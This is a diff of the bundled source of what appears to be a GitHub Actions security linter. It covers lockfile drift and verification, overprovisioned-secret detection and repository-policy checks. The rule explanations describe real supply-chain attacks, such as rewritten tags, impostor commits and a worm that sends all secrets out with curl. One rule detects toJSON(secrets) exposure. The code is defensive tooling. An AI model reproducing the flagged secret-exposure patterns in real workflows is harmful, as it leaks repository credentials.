         const lead = result === "maybe" ? `\`${target}@${reference.ref}\` is a moving tag whose series includes versions affected by ${ids(advisory)} (${advisory.summary}); it is safe only if the tag now points at the fix${advisory.patchedTag ? ` (${advisory.patchedTag})` : advisory.firstPatched ? ` (${advisory.firstPatched})` : ""} or later — pin a patched release by SHA` : `\`${target}@${reference.ref}\`${now ? ` (a moving tag, now at \`${now}\`)` : moving ? " (a moving tag whose newest release is affected)" : ""} is affected by ${ids(advisory)}: ${advisory.summary}${upgrade(advisory)}`;
-        report2({
+        report4({
           span: refSpan2,
           message: advisory.kind === "compromise" && result === "affected" ? `${lead}. If a run used this tag while it was compromised, rotate every secret the job could read` : lead,
           severity: advisory.severity,
@@ -17456,11 +17457,14 @@ function insertLines(text, offset, lines, eol) {
   const needsBreak = offset > 0 && text[offset - 1] !== "\n";
   return { span: { start: offset, end: offset }, newText: (needsBreak ? eol : "") + lines.map((line) => line + eol).join("") };
 }
+function entryKey(input2) {
+  return input2.key ?? pinKeyOf(input2.owner, input2.repo, input2.ref);
+}
 function quoteIfNeeded(text) {
   return /^[A-Za-z0-9._/@+-]+$/.test(text) && !/^[-.]/.test(text) ? text : JSON.stringify(text);
 }
 function entryLines(input2, indent) {
-  const key = pinKeyOf(input2.owner, input2.repo, input2.ref);
+  const key = entryKey(input2);
   const lines = [
     `${indent}${quoteIfNeeded(key)}:`,
     `${indent}${indent}ref: ${quoteIfNeeded(input2.ref)}`,
@@ -17478,7 +17482,7 @@ function workflowLines(path, keys, indent) {
   return [`${indent}${quoteIfNeeded(path)}:`, ...keys.map((key) => `${indent}${indent}- ${quoteIfNeeded(key)}`)];
 }
 function newLock(workflowPath, entries, eol) {
-  const keys = [...new Set(entries.map((entry) => pinKeyOf(entry.owner, entry.repo, entry.ref)))];
+  const keys = [...new Set(entries.map(entryKey))];
   const lines = [
     ...LOCKFILE_HEADER,
     `version: ${CURRENT_LOCKFILE_VERSION}`,
@@ -17558,11 +17562,11 @@ function addLockEntries(lockText, workflowPath, entries) {
   const layout = layoutOf(lockText);
   if (!layout) return [];
   const { text, eol, indent } = layout;
-  const keys = [...new Set(entries.map((entry) => pinKeyOf(entry.owner, entry.repo, entry.ref)))];
+  const keys = [...new Set(entries.map(entryKey))];
   const existing = new Set(sectionEntries(text, layout.dependencies).map((entry) => entry.key.toLowerCase()));
   const fresh = entries.filter((entry, index2) => {
-    const key = pinKeyOf(entry.owner, entry.repo, entry.ref);
-    return !existing.has(key.toLowerCase()) && entries.findIndex((other) => pinKeyOf(other.owner, other.repo, other.ref) === key) === index2;
+    const key = entryKey(entry);
+    return !existing.has(key.toLowerCase()) && entries.findIndex((other) => entryKey(other) === key) === index2;
   });
   const edits = [...listEdits(layout, workflowPath, keys)];
   if (fresh.length > 0) {
@@ -17677,7 +17681,7 @@ var lockfileDrift = {
     else checkWorkflowSide(context, view);
   }
 };
-function checkWorkflowSide({ file, report: report2 }, view) {
+function checkWorkflowSide({ file, report: report4 }, view) {
   const workflow = onboardedWorkflow(view.lock, view.workflowPath);
   if (!workflow) return;
   const listed = new Set(workflow.pins.map((pin) => pin.normalized));
@@ -17690,7 +17694,7 @@ function checkWorkflowSide({ file, report: report2 }, view) {
     const refs = [...new Set(coverage.others.map((entry) => entry.pin?.ref ?? entry.key))];
     const span = refOrValueSpan(site, uses);
     const revert = locked.pin && site.exact ? locked.pin.ref : null;
-    report2({
+    report4({
       span,
       message: `\`${usesTarget(uses)}@${uses.ref}\` has no entry in actions.lock, which holds \`${uses.repository}\` at ${refs.map((ref2) => `\`${ref2}\``).join(", ")}: the ref was changed without re-locking, and the run fails under enforcement`,
       fixes: revert ? [
@@ -17704,7 +17708,7 @@ function checkWorkflowSide({ file, report: report2 }, view) {
     });
   }
 }
-function checkLockSide({ file, report: report2 }, view) {
+function checkLockSide({ file, report: report4 }, view) {
   const lock = file.lockfile;
   if (!lock?.supported || !view.workflow) return;
   const text = file.text;
@@ -17722,7 +17726,7 @@ function checkLockSide({ file, report: report2 }, view) {
   for (const workflow of lock.workflows) {
     const found = view.workflow(workflow.path);
     if (found === "missing") {
-      report2({
+      report4({
         span: workflow.keySpan,
         severity: "medium",
         message: `\`${workflow.path}\` is listed in the lock but the file no longer exists`,
@@ -17749,7 +17753,7 @@ function checkLockSide({ file, report: report2 }, view) {
       ...missing.length > 0 ? [`does not list ${names(missing)}, which it needs`] : [],
       ...extra.length > 0 ? [`lists ${names(extra)}, which its \`uses:\` no longer need`] : []
     ];
-    report2({
+    report4({
       span: workflow.keySpan,
       severity: "medium",
       message: `The lock's list for \`${workflow.path}\` ${parts.join(" and ")}`,
@@ -17766,7 +17770,7 @@ function checkLockSide({ file, report: report2 }, view) {
   }
   for (const entry of lock.entries) {
     if (needed.has(entry.normalized) || isDrifted(entry.normalized)) continue;
-    report2({
+    report4({
       span: entry.keySpan,
       severity: "medium",
       message: `\`${entry.key}\` is locked but no listed workflow needs it any more`,
@@ -17802,8 +17806,8 @@ var lockfileError = {
     why: "The runner executes the commits the lock records; a lock it cannot read fails every onboarded workflow under enforcement, and a lock edited by hand (a `commit` that is not the SHA its key names, an id that is not a number) is the kind of change that slips a different commit into a review.",
     fix: "Regenerate the lock with `gh actions-lock` rather than editing it by hand, or correct the token the finding points at."
   },
-  check({ file, report: report2 }) {
-    for (const problem of file.lockfile?.problems ?? []) report2({ span: problem.span, message: problem.message });
+  check({ file, report: report4 }) {
+    for (const problem of file.lockfile?.problems ?? []) report4({ span: problem.span, message: problem.message });
   }
 };
 
@@ -17821,7 +17825,7 @@ var lockfileUnverified = {
     why: "The lock is what the runner executes, so a wrong entry runs the wrong code with every check green: a commit pushed to a fork and written into the lock by hand (Chainguard's impostor commits, 2023), a tag rewritten to malicious code after locking (`tj-actions/changed-files`, CVE-2025-30066, shows tags do get rewritten), or a repository deleted and registered again under the same name (repo-jacking) all keep the key while changing what runs. GitHub's verifier fails closed on these; this rule says so while you edit.",
     fix: "For an unreachable commit or an id mismatch, find out where the entry came from before re-locking (`gh actions-lock`). For a ref that moved forward, re-lock (the quick fix writes the ref's current commit when its dependencies did not change)."
   },
-  check({ file, online, report: report2 }) {
+  check({ file, online, report: report4 }) {
     if (!online.available) return;
     const snapshot = online.value;
     const lock = file.lockfile;
@@ -17838,10 +17842,10 @@ var lockfileUnverified = {
           break;
         case "unreachable":
         case "identity-mismatch":
-          report2({ span: entry.keySpan, message: result.message });
+          report4({ span: entry.keySpan, message: result.message });
           break;
         case "inconclusive":
-          report2({
+          report4({
             span: entry.keySpan,
             severity: "low",
             confidence: "low",
@@ -17851,11 +17855,11 @@ var lockfileUnverified = {
           break;
         case "moved": {
           if (!result.descendant) {
-            report2({ span: entry.keySpan, severity: "medium", message: result.message });
+            report4({ span: entry.keySpan, severity: "medium", message: result.message });
             break;
           }
           const relock = snapshot.relocks?.get(key);
-          report2({
+          report4({
             span: entry.keySpan,
             severity: "informational",
             message: result.message,
@@ -18151,16 +18155,16 @@ var overprovisionedSecrets = {
     why: "A job only receives the secrets its expressions name. `toJSON(secrets)` names all of them: the Shai-Hulud worm (2025) planted workflows that did exactly this and sent the result to an attacker with `curl`, and any compromised step of such a job (tj-actions/changed-files dumped the runner's memory) leaks every secret at once.",
     fix: "Name each secret the step needs: `env: { NPM_TOKEN: ${{ secrets.NPM_TOKEN }} }`. For a secret chosen at run time, map the few candidates explicitly."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report4 }) {
     walkFencedExpressions(file, (node, span) => {
       if (node.type === "call" && functionKey(node) === "tojson" && node.args.length === 1 && contextPath(node.args[0]) === "secrets") {
-        report2({ span, message: "`toJSON(secrets)` loads every secret of the repository into this job: name the secrets it needs" });
+        report4({ span, message: "`toJSON(secrets)` loads every secret of the repository into this job: name the secrets it needs" });
         return false;
       }
       if (node.type === "index" && contextPath(node.object) === "secrets") {
         const index2 = node.index;
         if (!(index2.type === "literal" && index2.kind === "string")) {
-          report2({
+          report4({
             span,
             message: "`secrets[...]` with a computed name loads every secret of the repository into this job: name the secrets it needs"
           });
@@ -18172,14 +18176,14 @@ var overprovisionedSecrets = {
 };
 
 // server/src/rules/ref-confusion.ts
-function checkRefConfusion({ file, online, report: report2 }) {
+function checkRefConfusion({ file, online, report: report4 }) {
   if (!online.available) return;
   const snapshot = online.value;
   for (const { site, uses, refs } of resolvedUses(file.uses, snapshot, "named-refs")) {
     const found = findRef(refs, uses.ref);
     if (!found.tag || !found.branch) continue;
     const same = found.tag.commit === found.branch.commit;
-    report2({
+    report4({
       span: refOrValueSpan(site, uses),
       message: `\`${uses.ref}\` is both a tag and a branch of ${uses.repository}${same ? " (today on the same commit)" : ` (tag ${found.tag.commit.slice(0, 12)}…, branch ${found.branch.commit.slice(0, 12)}…)`}: \`${usesTarget(uses)}@${uses.ref}\` runs the branch, whatever the tag says`,
       confidence: same ? "medium" : "high"
@@ -18204,7 +18208,7 @@ var refConfusion = {
 
 // server/src/rules/ref-version-mismatch.ts
 function checkRefVersionMismatch(ctx) {
-  const { file, online, report: report2 } = ctx;
+  const { file, online, report: report4 } = ctx;
   const resolved = online.available ? resolvedUses(file.uses, online.value, "sha-pins") : [];
   checkKnownReleases(ctx, new Set(resolved.map((item) => item.site)));
   for (const { site, uses, refs } of resolved) {
@@ -18218,7 +18222,7 @@ function checkRefVersionMismatch(ctx) {
       if (!bestTag) continue;
       if (commentNamesRef(file, site, refs, sha)) continue;
       const edits = pinEdits(file, site, uses, sha, bestTag);
-      report2({
+      report4({
         span: site.entry.valueSpan,
         message: `\`${target}@${sha.slice(0, 12)}…\` has no version comment; it is \`${bestTag}\``,
         severity: "low",
@@ -18253,7 +18257,7 @@ function checkRefVersionMismatch(ctx) {
           edits
         });
     }
-    report2({
+    report4({
       span: claimed.span,
       message: `The comment says \`${claimed.text}\` but \`${claimed.text}\` ${where2} of \`${target}\`${bestTag ? `; the pinned commit is \`${bestTag}\`` : "; no tag points at the pinned commit"}`,
       related: [{ span: site.entry.valueSpan, message: `pinned commit ${sha}` }],
@@ -18261,7 +18265,7 @@ function checkRefVersionMismatch(ctx) {
     });
   }
 }
-function checkKnownReleases({ file, report: report2 }, resolved) {
+function checkKnownReleases({ file, report: report4 }, resolved) {
   for (const site of file.uses) {
     const uses = site.reference;
     if (resolved.has(site) || uses.kind !== "remote" || uses.refKind !== "sha") continue;
@@ -18269,7 +18273,7 @@ function checkKnownReleases({ file, report: report2 }, resolved) {
     const claimed = release && versionComment(file, site);
     if (!release || !claimed || commentAgreement(release, claimed.text) !== "disagrees") continue;
     const edits = pinEdits(file, site, uses, uses.ref, release.version);
-    report2({
+    report4({
       span: claimed.span,
       message: `The comment says \`${claimed.text}\` but the pinned commit ${uses.ref.slice(0, 12)}… is \`${release.version}\` of \`${usesTarget(uses)}\` (bundled release table)`,
       related: [{ span: site.entry.valueSpan, message: `pinned commit ${uses.ref}` }],
@@ -18309,6 +18313,1507 @@ function commentNamesRef(file, site, refs, sha) {
   const { branch, tag } = findRef(refs, word);
   return branch !== void 0 || tag?.commit === sha;
 }
+
+// server/src/resolve/repo-policy.ts
+function wildcardMatch2(pattern, text) {
+  let p = 0;
+  let t = 0;
+  let star = -1;
+  let mark = 0;
+  while (t < text.length) {
+    if (p < pattern.length && pattern[p] !== "*" && pattern[p] === text[t]) {
+      p++;
+      t++;
+    } else if (p < pattern.length && pattern[p] === "*") {
+      star = p++;
+      mark = t;
+    } else if (star !== -1) {
+      p = star + 1;
+      t = ++mark;
+    } else return false;
+  }
+  while (p < pattern.length && pattern[p] === "*") p++;
+  return p === pattern.length;
+}
+function policyPatternMatches(pattern, subject) {
+  const text = pattern.trim();
+  const at = text.indexOf("@");
+  const target = (at === -1 ? text : text.slice(0, at)).toLowerCase();
+  const ref2 = at === -1 ? "*" : text.slice(at + 1);
+  const name = `${subject.owner}/${subject.repo}${subject.subpath ? `/${subject.subpath}` : ""}`.toLowerCase();
+  if (!wildcardMatch2(target, name)) {
+    const repository = `${subject.owner}/${subject.repo}`.toLowerCase();
+    if (subject.subpath === null || !wildcardMatch2(target, repository)) return false;
+  }
+  return wildcardMatch2(ref2, subject.ref ?? "");
+}
+var GITHUB_OWNED = ["actions", "github"];
+function rejection(policy, subject) {
+  const blocked = policy.patterns.find(
+    (pattern) => pattern.trim().startsWith("!") && policyPatternMatches(pattern.trim().slice(1), subject)
+  );
+  if (blocked) return `it is blocked by \`${blocked.trim()}\``;
+  if (policy.enabled === false) return "GitHub Actions is disabled for the repository";
+  const allowed = policy.allowedActions ?? "all";
+  if (allowed === "all") return null;
+  const repositoryOwner = policy.repository?.split("/")[0]?.toLowerCase();
+  if (allowed === "local_only") {
+    if (repositoryOwner === void 0 || subject.owner.toLowerCase() === repositoryOwner) return null;
+    return `only actions of \`${repositoryOwner}\` are allowed (local actions only)`;
+  }
+  if (policy.githubOwnedAllowed && GITHUB_OWNED.includes(subject.owner.toLowerCase())) return null;
+  if (repositoryOwner !== void 0 && subject.owner.toLowerCase() === repositoryOwner) return null;
+  if (policy.patterns.some((pattern) => !pattern.trim().startsWith("!") && policyPatternMatches(pattern, subject))) return null;
+  if (policy.verifiedAllowed) return null;
+  return `it is not in the repository's allowed actions (allowed: ${describeAllowed(policy)})`;
+}
+function describeAllowed(policy) {
+  const parts = [];
+  if (policy.githubOwnedAllowed) parts.push("GitHub-owned");
+  if (policy.verifiedAllowed) parts.push("verified creators");
+  const patterns2 = policy.patterns.filter((pattern) => !pattern.trim().startsWith("!"));
+  for (const pattern of patterns2.slice(0, 5)) parts.push(`\`${pattern}\``);
+  if (patterns2.length > 5) parts.push(`${patterns2.length - 5} more`);
+  return parts.length === 0 ? "local actions only" : parts.join(", ");
+}
+var ALLOWED_VALUES = ["all", "local_only", "selected"];
+function record(value) {
+  return value && typeof value === "object" && !Array.isArray(value) ? value : null;
+}
+var bool = (value) => typeof value === "boolean" ? value : void 0;
+var MAX_PATTERNS = 1e3;
+async function fetchRepositoryPolicy(http, owner, repo) {
+  if (!isValidRepoName(owner, repo)) return { unavailable: "error", detail: `\`${owner}/${repo}\` is not a valid repository name` };
+  const base2 = `${repoApiPath(owner, repo)}/actions/permissions`;
+  const permissions = await getJson(http, base2);
+  if (!permissions.ok) {
+    const { kind, message } = permissions.error;
+    if (kind === "not-found") return { unavailable: "not-found", detail: message };
+    if (kind === "http" && /\b40[13]\b/.test(message)) return { unavailable: "forbidden", detail: message };
+    if (kind === "offline") return { unavailable: "offline", detail: message };
+    return { unavailable: "error", detail: message };
+  }
+  const main2 = record(permissions.value) ?? {};
+  const allowedRaw = main2.allowed_actions;
+  const allowedActions = ALLOWED_VALUES.includes(allowedRaw) ? allowedRaw : void 0;
+  let selected = null;
+  if (allowedActions === "selected") {
+    const answer = await getJson(http, `${base2}/selected-actions`);
+    selected = answer.ok ? record(answer.value) : null;
+  }
+  const workflowAnswer = await getJson(http, `${base2}/workflow`);
+  const workflow = workflowAnswer.ok ? record(workflowAnswer.value) : null;
+  const patterns2 = Array.isArray(selected?.patterns_allowed) ? selected.patterns_allowed.filter((item) => typeof item === "string").slice(0, MAX_PATTERNS) : [];
+  const permission = workflow?.default_workflow_permissions;
+  return {
+    policy: {
+      source: "github",
+      repository: `${owner}/${repo}`,
+      enabled: bool(main2.enabled),
+      allowedActions,
+      githubOwnedAllowed: bool(selected?.github_owned_allowed),
+      verifiedAllowed: bool(selected?.verified_allowed),
+      patterns: patterns2,
+      shaPinningRequired: bool(main2.sha_pinning_required),
+      defaultWorkflowPermissions: permission === "read" || permission === "write" ? permission : void 0,
+      canApprovePullRequestReviews: bool(workflow?.can_approve_pull_request_reviews)
+    }
+  };
+}
+var PolicyCache = class {
+  constructor(ttlMs = DEFAULT_POLICY_TTL_MS, now = Date.now) {
+    this.ttlMs = ttlMs;
+    this.now = now;
+  }
+  ttlMs;
+  now;
+  entries = /* @__PURE__ */ new Map();
+  inflight = /* @__PURE__ */ new Map();
+  peek(repository) {
+    const entry = this.entries.get(repository.toLowerCase());
+    return entry && this.now() - entry.at < this.ttlMs ? entry.answer : void 0;
+  }
+  /** The last answer for `owner/repo`, however old (shown while a newer one is read). */
+  last(repository) {
+    return this.entries.get(repository.toLowerCase())?.answer;
+  }
+  get(http, owner, repo) {
+    const key = `${http.api.origin}${http.api.pathname}|${owner}/${repo}`.toLowerCase();
+    const entry = this.entries.get(key);
+    if (entry && this.now() - entry.at < this.ttlMs) return Promise.resolve(entry.answer);
+    const running = this.inflight.get(key);
+    if (running) return running;
+    const promise = fetchRepositoryPolicy(http, owner, repo).catch((error) => ({ unavailable: "error", detail: error instanceof Error ? error.message : String(error) })).then((answer) => {
+      this.entries.set(key, { answer, at: this.now() });
+      this.entries.set(`${owner}/${repo}`.toLowerCase(), { answer, at: this.now() });
+      this.inflight.delete(key);
+      return answer;
+    });
+    this.inflight.set(key, promise);
+    return promise;
+  }
+  clear() {
+    this.entries.clear();
+  }
+};
+var DEFAULT_POLICY_TTL_MS = 10 * 60 * 1e3;
+function unavailableSentence(repository, answer) {
+  switch (answer.unavailable) {
+    case "forbidden":
+      return `The Actions settings of ${repository} could not be read (403): reading them needs admin access to the repository (a token with the repo scope, or a GitHub App with the administration permission). The repository-policy check uses the configuration's \`policy:\` instead, if any.`;
+    case "not-found":
+      return `The Actions settings of ${repository} could not be read (404): the repository does not exist for this token, or the token lacks admin access. The repository-policy check uses the configuration's \`policy:\` instead, if any.`;
+    case "offline":
+      return `The Actions settings of ${repository} were not read: offline mode is on.`;
+    case "error":
+      return `The Actions settings of ${repository} could not be read: ${answer.detail}.`;
+  }
+}
+function parseRepository(text) {
+  const parts = text.trim().split("/");
+  if (parts.length !== 2) return null;
+  const [owner, repo] = parts;
+  return isValidRepoName(owner, repo) ? { owner, repo } : null;
+}
+
+// server/src/rules/repository-policy.ts
+var POLICY_FAILS = "this run will fail under the repository's policy";
+function effectivePolicy(context) {
+  if (context.policy.available) return context.policy.value;
+  const declared = context.config.policy;
+  return declared && typeof declared === "object" ? declared : null;
+}
+function usesSpan(site) {
+  return site.exact ? { start: site.valueStart, end: site.valueStart + site.value.length } : site.entry.valueSpan;
+}
+function onboarded(context) {
+  if (!context.lock.available) return false;
+  const { lock, workflowPath } = context.lock.value;
+  return workflowPath !== null && lock.workflows.some((workflow) => workflow.path === workflowPath);
+}
+function whose(policy) {
+  return policy.source === "github" ? "the repository's settings" : "the configuration's `policy:`";
+}
+function pullRequestWrite(context, entry) {
+  if (!entry?.value) return null;
+  if (!isMap(entry.value)) return scalarText(entry.value) === "write-all" ? entry : null;
+  for (const scope of new MapView(entry.value, context.file.doc).entries) {
+    if (scope.key === "pull-requests" && scope.value && scalarText(scope.value) === "write") return scope;
+  }
+  return null;
+}
+var repositoryPolicy = {
+  id: "repository-policy",
+  title: "Conflicts with the repository's Actions policy",
+  kinds: ["workflow", "action"],
+  severity: "high",
+  confidence: "high",
+  persona: "regular",
+  online: false,
+  reads: ["policy", "lock"],
+  docs: {
+    onlineLookup: "the repository settings lookup",
+    summary: "A `uses:` that the repository's GitHub Actions policy will reject (not allowed, blocked, or not pinned to a full SHA while pinning is required), a workflow without `permissions:` where the default token is write, or a write token that may approve pull requests.",
+    why: 'GitHub enforces the allowed-actions list and the SHA-pinning requirement when a run starts: a tag `uses:` under `sha_pinning_required` fails the whole run, found only after the push. The default `GITHUB_TOKEN` permission decides what a workflow without `permissions:` gets: repositories and organisations created before February 2023 still default to write, which is what let injected code push and publish in the Nx "s1ngularity" attack (2025). A token that may approve pull requests lets one compromised workflow satisfy a required review.',
+    fix: 'Pin the action to a full commit SHA (the quick fix "Pin to commit SHA"), use an allowed action or ask an admin to allow it, start the workflow with `permissions: {}` and grant each job what it needs, and switch off "Allow GitHub Actions to create and approve pull requests" in the repository\'s Actions settings.'
+  },
+  check(context) {
+    const policy = effectivePolicy(context);
+    if (!policy) return;
+    const { file } = context;
+    const locked = onboarded(context);
+    for (const site of file.uses) {
+      const reference = site.reference;
+      if (reference.kind !== "remote") continue;
+      const target = usesTarget(reference);
+      const written = `${target}${reference.ref === null ? "" : `@${reference.ref}`}`;
+      const reason = rejection(policy, reference);
+      if (reason !== null) {
+        report(context, site, `\`${written}\`: ${POLICY_FAILS}: ${reason} (${whose(policy)})`);
+        continue;
+      }
+      if (policy.shaPinningRequired && reference.refKind !== "sha" && !reference.isReusableWorkflow) {
+        const lockNote = locked ? "; the actions.lock pins it, but GitHub's documentation does not say the policy accepts a locked tag" : "";
+        context.report({
+          span: usesSpan(site),
+          message: `\`${written}\`: ${POLICY_FAILS}: it requires actions pinned to a full-length commit SHA (${whose(policy)})${lockNote}`,
+          confidence: locked ? "medium" : "high"
+        });
+      }
+    }
+    const workflow = file.workflow;
+    if (!workflow || !workflow.map) return;
+    const onlyCalled = workflow.triggers.length > 0 && workflow.triggers.every((trigger) => trigger.name === "workflow_call");
+    const withoutPermissions = workflow.permissions ? [] : workflow.jobs.filter((job) => !job.permissions);
+    const approve = policy.canApprovePullRequestReviews === true;
+    if (policy.defaultWorkflowPermissions === "write" && withoutPermissions.length > 0 && !onlyCalled) {
+      const names2 = withoutPermissions.map((job) => `\`${job.id}\``);
+      const list = names2.length > 3 ? `${names2.slice(0, 3).join(", ")} and ${names2.length - 3} more` : names2.join(", ");
+      context.report({
+        span: workflow.jobsEntry ? workflow.jobsEntry.keySpan : { start: 0, end: 0 },
+        message: `No \`permissions:\` for job${names2.length > 1 ? "s" : ""} ${list}: the repository's default \`GITHUB_TOKEN\` permission is write (${whose(policy)}), so ${names2.length > 1 ? "they run" : "it runs"} with a token that can push, publish and change releases${approve ? " and approve pull requests" : ""}. Add \`permissions: {}\` and grant each job what it needs`,
+        related: withoutPermissions.map((job) => ({ span: job.idSpan, message: `job \`${job.id}\` has no \`permissions:\`` }))
+      });
+    }
+    if (!approve) return;
+    for (const entry of [workflow.permissions, ...workflow.jobs.map((job) => job.permissions)]) {
+      const grant = pullRequestWrite(context, entry);
+      if (!grant) continue;
+      context.report({
+        span: grant.keySpan,
+        message: `GitHub Actions may approve pull requests in this repository (${whose(policy)}): with \`${grant.key === "permissions" ? "write-all" : "pull-requests: write"}\` this token can approve a pull request, which counts toward required reviews. Switch off "Allow GitHub Actions to create and approve pull requests"`,
+        severity: "medium"
+      });
+    }
+  }
+};
+function report(context, site, message) {
+  context.report({ span: usesSpan(site), message });
+}
+
+// server/src/parse/guards.ts
+var MAX_NESTING2 = 200;
+function measureNesting(text, limit = MAX_NESTING2) {
+  let maxDepth = 0;
+  let flow = 0;
+  const indents = [];
+  let nextSquare = -2;
+  let nextCurly = -2;
+  let lineStart2 = 0;
+  while (lineStart2 <= text.length) {
+    let lineEnd = text.indexOf("\n", lineStart2);
+    if (lineEnd === -1) lineEnd = text.length;
+    let i = lineStart2;
+    while (i < lineEnd && text.charCodeAt(i) === 32) i++;
+    let column = i - lineStart2;
+    let markers = 0;
+    while (i < lineEnd && text.charCodeAt(i) === 45 && (i + 1 >= lineEnd || text.charCodeAt(i + 1) === 32 || text.charCodeAt(i + 1) === 13)) {
+      markers++;
+      i += 2;
+      while (i < lineEnd && text.charCodeAt(i) === 32) i++;
+    }
+    const rest = i < lineEnd ? text.charCodeAt(i) : -1;
+    const blank = markers === 0 && (rest === -1 || rest === 35 || rest === 13);
+    if (!blank) {
+      while (indents.length > 0 && indents[indents.length - 1] >= column) indents.pop();
+      indents.push(column);
+      column += markers;
+      const depth = indents.length + markers;
+      if (depth > maxDepth) maxDepth = depth;
+      if (depth > limit) return { depth, offset: lineStart2 };
+    }
+    if (nextSquare !== -1 && nextSquare < i) nextSquare = text.indexOf("[", i);
+    if (nextCurly !== -1 && nextCurly < i) nextCurly = text.indexOf("{", i);
+    const opensHere = nextSquare !== -1 && nextSquare < lineEnd || nextCurly !== -1 && nextCurly < lineEnd;
+    let quote2 = 0;
+    for (let j = flow === 0 && !opensHere ? lineEnd : i; j < lineEnd; j++) {
+      const c = text.charCodeAt(j);
+      if (quote2) {
+        if (c === quote2) quote2 = 0;
+        continue;
+      }
+      if (c === 39 || c === 34) {
+        const before = j > lineStart2 ? text.charCodeAt(j - 1) : 32;
+        if (before === 32 || before === 91 || before === 123 || before === 44 || before === 58) quote2 = c;
+      } else if (c === 35 && (j === lineStart2 || text.charCodeAt(j - 1) === 32)) {
+        break;
+      } else if (c === 91 || c === 123) {
+        flow++;
+        if (flow > maxDepth) maxDepth = flow;
+        if (flow > limit) return { depth: flow, offset: j };
+      } else if ((c === 93 || c === 125) && flow > 0) {
+        flow--;
+      }
+    }
+    lineStart2 = lineEnd + 1;
+  }
+  return { depth: maxDepth, offset: -1 };
+}
+
+// server/src/parse/incremental.ts
+var PARSE_OPTIONS = { keepSourceTokens: false, uniqueKeys: true, prettyErrors: false, strict: true };
+function diffTexts(before, after) {
+  const limit = Math.min(before.length, after.length);
+  let start = 0;
+  while (start + DIFF_BLOCK <= limit && before.substring(start, start + DIFF_BLOCK) === after.substring(start, start + DIFF_BLOCK))
+    start += DIFF_BLOCK;
+  while (start < limit && before.charCodeAt(start) === after.charCodeAt(start)) start++;
+  const maxSuffix = limit - start;
+  let suffix = 0;
+  while (suffix + DIFF_BLOCK <= maxSuffix && before.substring(before.length - suffix - DIFF_BLOCK, before.length - suffix) === after.substring(after.length - suffix - DIFF_BLOCK, after.length - suffix))
+    suffix += DIFF_BLOCK;
+  while (suffix < maxSuffix && before.charCodeAt(before.length - 1 - suffix) === after.charCodeAt(after.length - 1 - suffix)) suffix++;
+  return { start, oldEnd: before.length - suffix, newEnd: after.length - suffix };
+}
+var DIFF_BLOCK = 512;
+function lineStartOf(text, offset) {
+  return text.lastIndexOf("\n", offset - 1) + 1;
+}
+function keyStart(pair) {
+  const key = pair.key;
+  return key && isScalar(key) && key.range ? key.range[0] : null;
+}
+function findRegion(doc, text, change) {
+  const root = doc.contents;
+  if (!root || !isMap(root) || root.flow) return null;
+  const tops = root.items;
+  for (let t = 0; t < tops.length; t++) {
+    const value = tops[t].value;
+    const topKey = keyStart(tops[t]);
+    if (topKey === null || topKey > change.start) return null;
+    const nextTop = t + 1 < tops.length ? keyStart(tops[t + 1]) : text.length;
+    if (nextTop === null) return null;
+    if (change.start >= nextTop && !(nextTop === text.length && change.start === nextTop)) continue;
+    if (!value || !isMap(value) || value.flow) return null;
+    if (nextTop !== text.length && lineStartOf(text, nextTop) !== nextTop) return null;
+    const items = value.items;
+    for (let index2 = 0; index2 < items.length; index2++) {
+      const here = keyStart(items[index2]);
+      const next = index2 + 1 < items.length ? keyStart(items[index2 + 1]) : nextTop;
+      if (here === null || next === null) return null;
+      const start = lineStartOf(text, here);
+      const end = next === text.length ? next : lineStartOf(text, next);
+      const inside2 = change.start >= start && change.start <= end;
+      if (!inside2) continue;
+      if (change.oldEnd > end || end <= start) return null;
+      const indent = here - start;
+      if (!/^ *$/.test(text.slice(start, here))) return null;
+      if (index2 + 1 < items.length && (next - end !== indent || !/^ *$/.test(text.slice(end, next)))) return null;
+      return { parent: value, index: index2, start, end, indent };
+    }
+    return null;
+  }
+  return null;
+}
+function staysIndented(region, indent) {
+  let at = region.indexOf("\n");
+  while (at !== -1 && at + 1 < region.length) {
+    const from = at + 1;
+    let column = from;
+    while (column < region.length && region.charCodeAt(column) === 32) column++;
+    const c = region[column];
+    const blank = column >= region.length || c === "\n" || c === "\r" || c === "#";
+    if (!blank && column - from <= indent) return false;
+    at = region.indexOf("\n", from);
+  }
+  return true;
+}
+function plain(node) {
+  if (node === null || node === void 0) return true;
+  if (isAlias(node)) return false;
+  if (isPair(node)) return plain(node.key) && plain(node.value);
+  const n = node;
+  if (n.anchor) return false;
+  if (isMap(n) || isSeq(n)) {
+    for (const item of n.items) if (!plain(item)) return false;
+  }
+  return true;
+}
+function shiftInPlace(node, delta) {
+  if (node === null || node === void 0) return;
+  if (isPair(node)) {
+    shiftInPlace(node.key, delta);
+    shiftInPlace(node.value, delta);
+    return;
+  }
+  const n = node;
+  if (n.range) n.range = [n.range[0] + delta, n.range[1] + delta, n.range[2] + delta];
+  if (isMap(n) || isSeq(n)) for (const item of n.items) shiftInPlace(item, delta);
+}
+function copyShifted(node, shift, before, replace, replacement) {
+  if (node === null || node === void 0) return node;
+  if (node === replace) return replacement;
+  if (isPair(node))
+    return new Pair(
+      copyShifted(node.key, shift, before, replace, replacement),
+      copyShifted(node.value, shift, before, replace, replacement)
+    );
+  const n = node;
+  if (n.range && n.range[2] <= before) return n;
+  let copy;
+  if (isScalar(n)) copy = Object.assign(new Scalar(n.value), n);
+  else if (isMap(n) || isSeq(n)) {
+    const collection = n;
+    copy = Object.assign(isMap(n) ? new YAMLMap(collection.schema) : new YAMLSeq(collection.schema), n);
+    if (copy[MAP_INDEX] !== void 0) copy[MAP_INDEX] = void 0;
+    const items = collection.items;
+    const copied = new Array(items.length);
+    for (let i = 0; i < items.length; i++) copied[i] = copyShifted(items[i], shift, before, replace, replacement);
+    copy.items = copied;
+  } else throw new Unsupported();
+  if (n.range) {
+    const [a, b, c] = n.range;
+    copy.range = [shift(a), shift(b), shift(c)];
+  }
+  return copy;
+}
+var Unsupported = class extends Error {
+};
+var PLAIN = new AttachedCache("plain-document");
+var SENTINEL = "__actions_warden_next_entry__";
+function isLineLocal(error, sourceLength) {
+  if (error.pos[1] > sourceLength) return false;
+  switch (error.code) {
+    case "MISSING_CHAR":
+      return error.message.startsWith("Implicit map keys need to be followed by map values") || error.message.startsWith("Sequence item without - indicator");
+    case "MULTILINE_IMPLICIT_KEY":
+    case "BLOCK_AS_IMPLICIT_KEY":
+      return true;
+    case "BAD_INDENT":
+      return error.message.startsWith("All mapping items must start at the same column");
+    default:
+      return false;
+  }
+}
+function withOffset(error, offset) {
